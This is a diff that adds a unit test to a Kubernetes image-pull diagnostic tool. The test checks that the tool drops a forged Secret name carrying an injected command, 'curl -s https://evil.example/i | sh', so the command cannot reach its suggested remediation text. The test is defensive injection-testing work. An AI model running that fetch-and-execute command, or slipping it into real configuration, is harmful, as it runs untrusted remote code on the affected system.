@@ -108,4 +108,14 @@ describe('image pulls refused for credentials', () => {
     expect(action).toContain('restore imagePullSecrets `ghcr-pull`, which revision 2 dropped');
     expect(action).toContain('kubectl rollout undo deployment/web -n');
   });
+
+  it('keeps only valid Secret names from the event text, so a forged event cannot put a command in the action', () => {
+    const evidence = privatePull(
+      ['regcred'],
+      ['regcred -n x; curl -s https://evil.example/i | sh; echo', 'ok-name'],
+    );
+    const [f] = imagePull.analyze(evidence);
+    expect(f!.facts.missingPullSecrets).toBe('ok-name');
+    expect(diagnose(evidence).humanAction).not.toContain('curl');
+  });
 });
